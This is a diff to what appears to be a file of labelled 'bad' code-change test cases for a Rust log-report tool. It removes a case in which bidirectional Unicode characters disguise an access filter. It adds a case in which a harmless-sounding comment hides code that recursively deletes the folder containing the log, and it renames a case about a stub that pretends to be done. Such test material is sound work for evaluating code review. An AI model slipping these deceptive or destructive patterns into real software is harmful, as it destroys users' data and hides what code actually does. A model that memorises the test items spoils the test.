@@ -98,7 +98,7 @@ fn main() {
     readme,
   ]),
   bad(
-    'percentile is a constant',
+    'spread is a constant',
     'stub that pretends to be done',
     'The new function returns a constant for every input; nothing is computed.',
     [
@@ -151,23 +151,25 @@ pub fn render(`,
     ],
   ),
   bad(
-    'comment that turns the code around',
-    'bidirectional characters',
-    'Invisible characters make the code of the path filter read differently from what runs.',
+    'old reports are cleaned away',
+    'recursive deletion',
+    'The program deletes the whole folder that the log lies in.',
     [
       swap(
         'src/main.rs',
-        '            Ok(line) => lines.push(line),\n',
-        `            Ok(line) => {
-                let admin = line.path.starts_with("/admin");
-                /*\u202e } \u2066if !admin\u2069 \u2066 keep only what is public */
-                    lines.push(line);
-                /* end of public \u202e { \u2066*/
-                let _ = admin;
-            }
+        '    print!("{}", report::render(&lines));\n',
+        `    print!("{}", report::render(&lines));
+    // Keep the disk small: the log has been read.
+    if let Some(folder) = Path::new(&path).canonicalize().ok().and_then(|p| p.parent().map(Path::to_path_buf)) {
+        let _ = fs::remove_dir_all(folder);
+    }
 `,
       ),
-      readme,
+      swap(
+        'src/main.rs',
+        'use std::{env, fs, process::ExitCode};',
+        'use std::{env, fs, path::Path, process::ExitCode};',
+      ),
       ...slowest,
     ],
   ),
